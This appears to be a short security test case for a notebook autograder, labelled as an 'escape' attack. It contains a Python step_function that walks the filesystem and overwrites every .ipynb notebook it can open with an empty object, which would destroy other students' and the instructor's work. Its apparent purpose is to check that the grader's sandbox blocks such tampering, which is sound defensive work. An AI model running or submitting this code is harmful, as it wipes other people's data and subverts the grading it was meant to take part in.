# attack: find the other students' submissions (and the instructor's sources) on disk and overwrite them
# kind: escape
# notebook: 01_mini_lesson
# expect: 0
# %% exfx_step
import os

def step_function(x):
    for top in ("/", os.path.expanduser("~"), "/tmp", ".."):
        for root, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if root != "/" or d not in ("proc", "sys", "dev", "usr")]
            for name in files:
                if name.endswith(".ipynb"):
                    try:
                        with open(os.path.join(root, name), "w") as f:
                            f.write("{}")
                    except OSError:
                        pass
    return x
